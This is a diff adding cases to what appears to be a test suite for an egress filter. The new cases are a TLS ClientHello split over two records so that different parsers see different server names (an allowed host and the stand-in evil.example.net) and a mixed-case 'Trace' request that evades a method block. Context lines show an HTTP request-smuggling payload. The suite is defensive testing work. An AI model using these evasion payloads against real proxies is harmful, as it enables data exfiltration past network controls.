@@ -254,6 +254,24 @@ def tls_for_another_host() -> str:
     return reach("api.example.com:443", hello("evil.example.net"))
 
 
+def _hello_in_two_records(shown: bytes, meant: bytes) -> bytes:
+    """It names `meant`. Whoever takes the second record's head for a part of it finds `shown`, five bytes early."""
+    listed = len(shown) + 3
+    filler = bytes(20) + b"\0\0" + (listed + 2).to_bytes(2, "big") + listed.to_bytes(2, "big")[:1]
+    others = b"\x12\x34" + _sized(filler, 2) + bytes([listed & 0xFF, 0]) + _sized(shown, 2)
+    extensions = others + b"\0\0" + _sized(_sized(b"\0" + _sized(meant, 2), 2), 2)
+    body = b"\x03\x03" + bytes(32) + b"\0" + _sized(b"\x13\x01", 2) + _sized(b"\0", 1) + _sized(extensions, 2)
+    whole = b"\x01" + _sized(body, 3)
+    cut = whole.index(filler) + 5
+    return b"".join(b"\x16\x03\x01" + _sized(part, 2) for part in (whole[:cut], whole[cut:]))
+
+
+@attack(EXFILTRATION, "a TLS hello must be one whole record", CLOSED, cage="allow")
+def tls_that_is_read_in_two_ways() -> str:
+    """TLS that names an allowed host for one reader and another site of its server for the other, over two records"""
+    return reach("api.example.com:443", _hello_in_two_records(b"api.example.com", b"evil.example.net"))
+
+
 @attack(EXFILTRATION, "TLS must name a listed host", CLOSED, cage="allow")
 def tls_for_nobody() -> str:
     """TLS that names no host"""
@@ -293,6 +311,12 @@ def two_lengths() -> str:
     hidden = b"0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.example.net\r\n\r\n"
     head = b"POST http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nTransfer-Encoding: chunked\r\n"
     return _plain(head + b"Content-Length: %d\r\n\r\n%s" % (len(hidden), hidden), b"evil.example.net")
+
+
+@attack(EXFILTRATION, "neither CONNECT nor TRACE, in whatever letters", "HTTP/1.1 403", cage="allow")
+def a_method_in_other_letters() -> str:
+    """Trace, which some servers take for TRACE, to read what is added to a request on its way"""
+    return _plain(b"Trace / HTTP/1.1\r\nHost: api.example.com\r\nConnection: close\r\n\r\n", b"Trace /")
 
 
 @attack(EXFILTRATION, SAME_WORDS, "HTTP/1.1 (400|505)|closed", cage="allow")
